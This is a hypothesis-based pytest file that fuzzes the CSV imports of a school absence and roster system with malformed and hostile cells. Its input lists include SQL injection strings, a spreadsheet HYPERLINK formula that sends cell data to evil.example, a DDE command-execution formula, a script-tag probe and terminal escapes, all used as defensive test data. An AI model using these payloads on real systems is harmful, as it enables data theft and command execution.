"""Malformed files fed to the imports, generated with hypothesis.

Whatever the file holds, the import answers through its report (never a traceback), every bad row is
reported with its line number, a file with a bad row leaves the store exactly as it was, and a valid
file imports once: importing it again changes nothing. Runs on SQLite and, with TEST_DATABASE_URL, on
PostgreSQL (which is stricter: NUL bytes, column lengths)."""
from __future__ import annotations

import csv
import io
import itertools
import unicodedata
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from sqlalchemy import delete, select
from typer.testing import CliRunner

from naervaer.cli import app
from naervaer.db import session_scope
from naervaer.imports.absence import OPTIONAL as ABSENCE_OPTIONAL, REQUIRED as ABSENCE_REQUIRED, import_absence
from naervaer.imports.roster import ImportReport, import_roster
from naervaer.imports.run import run_import
from naervaer.imports.values import KINDS, REASONS, TRUE, FALSE, CellError, parse_date
from naervaer.models import AbsenceRecord, Base, Person, Pupil

EXAMPLES = Path(__file__).resolve().parents[2] / "data" / "examples"
ROSTER = [EXAMPLES / f"{name}.csv" for name in ("schools", "subjects", "classes", "pupils", "guardians", "staff")]
PUPILS = ("E1001", "E1002", "E1003", "E2001")   # in the example roster
SUBJECTS = ("NOR", "MAT", "ENG")

SETTINGS = settings(max_examples=40, deadline=None, derandomize=True,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                           HealthCheck.data_too_large])
_files = itertools.count()

# --- what goes into the cells ------------------------------------------------------------------------
HUGE = "Å" * 10_000
NASTY = [
    HUGE, "x" * 10_000, "'; DROP TABLE pupils; --", "1 OR 1=1", "\" OR \"\"=\"", "Robert'); DELETE FROM people;--",
    '=HYPERLINK("http://evil.example/?d="&A1;"klikk")', "=1+2", "=cmd|' /C calc'!A0", "@SUM(A1:A9)",
    "<script>alert(1)</script>", "**fet** _kursiv_ [lenke](http://x)", "Ida\x00Hansen", "\x1b[2J\x1b[31mrød",
    "\x07\x08\x0b\x0c", "\u202eesrever", "\ufeffE1001", "🙂" * 50, "angst og magesmerter",
]
# Unicode without line breaks (a quoted newline moves the line the reader reports) but with every
# other control character, NUL included.
# ("Ã" is left out: with "¸" after it the whole file is refused as double-encoded, tested on its own.)
cell_text = st.text(st.characters(codec="utf-8", exclude_characters="\r\nÃ"), max_size=40)
any_cell = st.one_of(cell_text, st.sampled_from(NASTY))


def unparseable_date(value: str) -> bool:
    try:
        parse_date(value, "en")
    except CellError:
        return True
    return False


bad_date = st.one_of(st.sampled_from(["31.11.2026", "2026-13-02", "i dag", "29.02.2027", "00.00.0000",
                                      "2026/11/02", "2. november", "45000"]), any_cell).filter(unparseable_date)
not_a_kind = any_cell.filter(lambda v: v.strip().lower() not in KINDS)
free_text_reason = any_cell.filter(lambda v: v.strip() and v.strip().lower() not in REASONS)
not_a_bool = any_cell.filter(lambda v: v.strip().lower() not in TRUE | FALSE)
unknown_pupil = any_cell.map(lambda v: "ZZ" + v)


def dates() -> st.SearchStrategy[str]:
    return st.dates(min_value=date(2026, 8, 17), max_value=date(2027, 6, 18)).flatmap(
        lambda d: st.sampled_from([d.isoformat(), d.strftime("%d.%m.%Y")]))


@st.composite
def good_absence_row(draw) -> dict[str, str]:
    kind = draw(st.sampled_from(["dag", "day", "sent", "late", "gått", "time", "hour"]))
    row = {"pupil_id": draw(st.sampled_from(PUPILS)), "date": draw(dates()), "kind": kind}
    if kind in ("time", "hour"):
        row["subject"] = draw(st.sampled_from(SUBJECTS))
        row["lesson"] = str(draw(st.integers(1, 8)))
        row["hours"] = draw(st.sampled_from(["", "1", "0,5", "2"]))
    row["documented"] = draw(st.sampled_from(["", "ja", "nei", "x", "0"]))
    row["announced_by_home"] = draw(st.sampled_from(["", "ja", "nei", "yes", "1"]))
    row["reason"] = draw(st.sampled_from(["", "syk", "sick", "legetime", "permisjon", "annet", "Sjukdom"]))
    return row


# Each mutation makes a good row certainly bad (a message is owed for its line).
ABSENCE_MUTATIONS = {
    "unknown pupil": lambda d, r: {**r, "pupil_id": d(unknown_pupil)},
    "empty pupil": lambda d, r: {**r, "pupil_id": d(st.sampled_from(["", "  "]))},
    "bad date": lambda d, r: {**r, "date": d(bad_date)},
    "bad kind": lambda d, r: {**r, "kind": d(not_a_kind)},
    "free-text reason": lambda d, r: {**r, "reason": d(free_text_reason)},
    "bad yes/no": lambda d, r: {**r, "documented": d(not_a_bool)},
    "hour without lesson": lambda d, r: {**r, "kind": "time", "subject": "MAT", "lesson": ""},
    "huge lesson": lambda d, r: {**r, "kind": "time", "subject": "MAT", "lesson": HUGE},
    "huge subject": lambda d, r: {**r, "kind": "time", "subject": d(st.sampled_from([HUGE, "S" * 33])), "lesson": "2"},
    "bad hours": lambda d, r: {**r, "kind": "time", "subject": "MAT", "lesson": "3",
                               "hours": d(st.sampled_from(["0", "-1", "13", "nan", "inf", "to", HUGE]))},
    "control characters": lambda d, r: {**r, d(st.sampled_from(["pupil_id", "reason", "documented"])):
                                        d(st.sampled_from(["E1001\x00", "\x00", "syk\x1b[2J", "ja\x07"]))},
    "formula": lambda d, r: {**r, "pupil_id": d(st.sampled_from(['=HYPERLINK("http://x";"E1001")', "=E1001"]))},
    "extra cells": lambda d, r: {**r, "__extra__": d(any_cell)},
}


def render_csv(header: list[str], rows: list[dict[str, str]], delimiter: str) -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\n")
    writer.writerow(header)
    for row in rows:
        cells = [row.get(h, "") for h in header]
        if "__extra__" in row:
            cells.append(row["__extra__"] or "x")
        writer.writerow(cells)
    return out.getvalue()


def row_key(row: dict[str, str]) -> tuple:
    return (row["pupil_id"], parse_date(row["date"], "en"), KINDS[row["kind"]], row.get("subject"), row.get("lesson"))


@st.composite
def absence_file(draw, bad: bool):
    """A file with good rows and (when bad) at least one certainly-bad row; returns (text, bad lines)."""
    header = list(ABSENCE_REQUIRED) + draw(st.lists(st.sampled_from(ABSENCE_OPTIONAL), unique=True))
    for needed in ("subject", "lesson", "hours", "reason", "documented"):
        if needed not in header:
            header.append(needed)
    header = draw(st.permutations(header))
    header = [draw(st.sampled_from([h, h.upper(), f" {h} "])) for h in header]
    keys = [h.strip().lower() for h in header]
    rows = [(row, False) for row in draw(st.lists(good_absence_row(), max_size=6, unique_by=row_key))]
    if bad:
        for _ in range(draw(st.integers(1, 4))):
            mutation = draw(st.sampled_from(sorted(ABSENCE_MUTATIONS)))
            row = ABSENCE_MUTATIONS[mutation](draw, draw(good_absence_row()))
            rows.insert(draw(st.integers(0, len(rows))), (row, True))
    out_rows = [{h: row.get(k, "") for h, k in zip(header, keys)}
                | ({"__extra__": row["__extra__"]} if "__extra__" in row else {}) for row, _ in rows]
    bad_lines = {i + 2 for i, (_, is_bad) in enumerate(rows) if is_bad}
    return render_csv(header, out_rows, draw(st.sampled_from([";", ","]))), bad_lines


# --- the store -------------------------------------------------------------------------------------------
def snapshot(engine) -> dict[str, list[tuple]]:
    """Every row of every table, in primary-key order."""
    with session_scope(engine) as session:
        return {table.name: [tuple(r) for r in session.execute(select(table).order_by(*table.primary_key.columns))]
                for table in Base.metadata.sorted_tables}


def write(tmp_path: Path, data: bytes, name: str | None = None) -> Path:
    path = tmp_path / (name or f"file{next(_files)}.csv")
    path.write_bytes(data)
    return path


def encode(text: str, encoding: str) -> bytes:
    try:
        return text.encode(encoding)
    except UnicodeEncodeError:
        return text.encode("utf-8")


def absence(engine, path: Path, lang: str = "en") -> ImportReport:
    return run_import(engine, lambda s: import_absence(s, path, lang, "visma"))


def roster(engine, paths: list[Path], lang: str = "en") -> ImportReport:
    return run_import(engine, lambda s: import_roster(s, paths, lang))


def printable(message: str) -> bool:
    return not any(unicodedata.category(c) == "Cc" for c in message)


def check_failed(report: ImportReport, before: dict, engine, *, lines: int | None = None) -> None:
    """A refused file: reported with line numbers, shown safely, nothing stored."""
    assert not report.ok
    for problem in report.problems:
        assert problem.line >= 1 and (lines is None or problem.line <= lines)
        for lang in ("nb", "nn", "en"):
            shown = problem.render(lang)
            assert printable(shown), repr(shown)          # no terminal escapes or NUL echoed to the operator
            assert len(shown) < 2_000, len(shown)          # a 10,000-character cell is not echoed whole
    assert snapshot(engine) == before


@pytest.fixture
def rostered(engine):
    report = roster(engine, ROSTER)
    assert report.ok, [p.render("en") for p in report.problems]
    return engine


# --- the properties ------------------------------------------------------------------------------------
def test_random_bytes_never_escape_the_report(rostered, tmp_path):
    before = snapshot(rostered)

    @SETTINGS
    @given(data=st.one_of(st.binary(max_size=600),
                          st.binary(max_size=300).map(lambda b: b"pupil_id;date;kind\n" + b),
                          st.binary(max_size=300).map(lambda b: b"school_code,class,year\n" + b)))
    def prop(data):
        for report in (absence(rostered, write(tmp_path, data)), roster(rostered, [write(tmp_path, data)])):
            if report.ok:   # a few byte strings are a valid, empty file
                assert report.created == report.updated == 0
            else:
                check_failed(report, before, rostered)
        assert snapshot(rostered) == before

    prop()


def test_random_unicode_with_control_characters_never_escapes_the_report(rostered, tmp_path):
    before = snapshot(rostered)
    text = st.text(st.characters(codec="utf-8"), max_size=300)

    @SETTINGS
    @given(body=text, header=st.sampled_from(["", "pupil_id;date;kind\n", "pupil_id,date,kind,reason\n",
                                               "pupil_id,given_name,family_name,birth_date,school_code,class\n"]),
           encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16"]))
    def prop(body, header, encoding):
        data = encode(header + body, encoding)
        for report in (absence(rostered, write(tmp_path, data)), roster(rostered, [write(tmp_path, data)])):
            if not report.ok:
                check_failed(report, before, rostered)
        assert snapshot(rostered) == before

    prop()


def test_wrong_missing_or_extra_headers_are_refused_whole(rostered, tmp_path):
    before = snapshot(rostered)
    names = st.one_of(st.sampled_from(["pupil_id", "date", "kind", "elev", "dato", "type", "", "PUPIL ID", HUGE,
                                       "pupil_id\x00", "=HYPERLINK(\"x\")", "'; DROP TABLE pupils; --"]), cell_text)

    @SETTINGS
    @given(header=st.lists(names, max_size=8).filter(lambda h: not {"pupil_id", "date", "kind"} <= {
        c.strip().lower() for c in h}), rows=st.lists(st.lists(any_cell, max_size=9), max_size=4),
        delimiter=st.sampled_from([";", ","]))
    def prop(header, rows, delimiter):
        out = io.StringIO()
        writer = csv.writer(out, delimiter=delimiter, lineterminator="\n")
        writer.writerows([header, *rows])
        report = absence(rostered, write(tmp_path, out.getvalue().encode("utf-8")))
        check_failed(report, before, rostered)
        assert all(p.line == 1 for p in report.problems)

    prop()


def test_every_bad_absence_row_is_reported_with_its_line_and_nothing_is_stored(rostered, tmp_path):
    before = snapshot(rostered)

    @SETTINGS
    @given(file=absence_file(bad=True), encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252"]))
    def prop(file, encoding):
        text, bad_lines = file
        data = encode(text, encoding)
        report = absence(rostered, write(tmp_path, data))
        check_failed(report, before, rostered, lines=text.count("\n"))
        if b"\x00" in data[:4096]:   # taken for UTF-16 or a spreadsheet: the whole file is refused
            assert [(p.line, p.whole_file) for p in report.problems] == [(1, True)]
            return
        reported = {p.line for p in report.problems}
        assert reported == bad_lines, ([p.render("en") for p in report.problems], text[:2000])

    prop()


PUPIL_HEADER = ["pupil_id", "given_name", "family_name", "birth_date", "school_code", "class", "phone", "email"]


@st.composite
def pupil_file(draw):
    """New pupils for the example roster, some certainly bad; returns (text, bad lines)."""
    rows, bad_lines = [], set()
    for i in range(draw(st.integers(1, 6))):
        row = {"pupil_id": f"N{i:03d}", "given_name": draw(st.sampled_from(["Ola", "Åse", "Kari Nordmann"])),
               "family_name": "Test", "birth_date": "2015-03-01", "school_code": "bergermoen", "class": "5A",
               "phone": "", "email": ""}
        if draw(st.booleans()):
            column, value = draw(st.sampled_from([
                ("pupil_id", ""), ("given_name", ""), ("given_name", HUGE), ("family_name", "y" * 101),
                ("given_name", "Ida\x00"), ("family_name", "\x1b[31mx"), ("pupil_id", "P" * 65),
                ("given_name", '=HYPERLINK("http://evil.example";"Ida")'), ("phone", "9" * 33),
                ("email", HUGE), ("class", "7Z"), ("class", HUGE), ("school_code", "'; DROP TABLE pupils; --"),
                ("school_code", "ukjent\x00"), ("birth_date", "31.11.2015"), ("birth_date", HUGE),
            ]))
            row[column] = value
            bad_lines.add(i + 2)
        rows.append(row)
    return render_csv(PUPIL_HEADER, rows, draw(st.sampled_from([",", ";"]))), bad_lines


def test_every_bad_roster_row_is_reported_with_its_line_and_nothing_is_stored(rostered, tmp_path):
    before = snapshot(rostered)

    @SETTINGS
    @given(file=pupil_file())
    def prop(file):
        text, bad_lines = file
        report = roster(rostered, [write(tmp_path, text.encode("utf-8"), "pupils.csv")])
        if "\x00" in text[:4096]:
            assert [(p.line, p.whole_file) for p in report.problems] == [(1, True)]
            assert snapshot(rostered) == before
            return
        if not bad_lines:
            assert report.ok, [p.render("en") for p in report.problems]
            with session_scope(rostered) as s:   # restore: the new pupils go again
                ids = list(s.scalars(select(Person.id).where(Person.external_id.like("N%"))))
                s.execute(delete(Pupil).where(Pupil.person_id.in_(ids)))
                s.execute(delete(Person).where(Person.id.in_(ids)))
            assert snapshot(rostered) == before
            return
        check_failed(report, before, rostered, lines=text.count("\n"))
        assert {p.line for p in report.problems} == bad_lines, [p.render("en") for p in report.problems]

    prop()


def test_huge_file_cells_beyond_the_csv_field_limit_are_refused(rostered, tmp_path):
    before = snapshot(rostered)
    path = write(tmp_path, ("pupil_id;date;kind\nE1001;02.11.2026;\"" + "x" * 200_000 + "\"\n").encode())
    check_failed(absence(rostered, path), before, rostered)
    # a NUL after the first 4096 bytes (where the file is not taken for UTF-16) is a bad row
    path = write(tmp_path, b"pupil_id;date;kind\n" + b"E1001;02.11.2026;dag\n" * 300 + b"E1001;03.11.2026;dag\x00\n")
    report = absence(rostered, path)
    check_failed(report, before, rostered)
    assert [p.line for p in report.problems] == [302]


def test_a_valid_file_imports_exactly_once(rostered, tmp_path):
    before = snapshot(rostered)

    @SETTINGS
    @given(file=absence_file(bad=False), encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252"]))
    def prop(file, encoding):
        text, _ = file
        rows = list(csv.reader(io.StringIO(text), delimiter=";" if text.split("\n")[0].count(";") else ","))[1:]
        path = write(tmp_path, encode(text, encoding))
        try:
            first = absence(rostered, path)
            assert first.ok, [p.render("en") for p in first.problems]
            after_first = snapshot(rostered)
            with session_scope(rostered) as s:
                stored = len(s.scalars(select(AbsenceRecord)).all())
            assert first.created == stored == len(rows) and first.updated == first.unchanged == 0
            again = absence(rostered, path)
            assert again.ok and (again.created, again.updated, again.unchanged) == (0, 0, len(rows))
            assert snapshot(rostered) == after_first
        finally:
            with session_scope(rostered) as s:
                s.execute(delete(AbsenceRecord))
        assert snapshot(rostered) == before

    prop()


def test_the_cli_answers_bad_files_without_a_traceback(rostered, tmp_path):
    runner = CliRunner()
    before = snapshot(rostered)

    @settings(max_examples=12, deadline=None, derandomize=True,
              suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
    @given(file=absence_file(bad=True), command=st.sampled_from(["absence", "roster"]))
    def prop(file, command):
        text, _ = file
        path = write(tmp_path, text.encode("utf-8"))
        result = runner.invoke(app, ["import", command, str(path), "--lang", "en"])
        assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output
        assert "Nothing was imported" in result.output
        assert printable(result.output.replace("\n", ""))
        assert snapshot(rostered) == before

    prop()
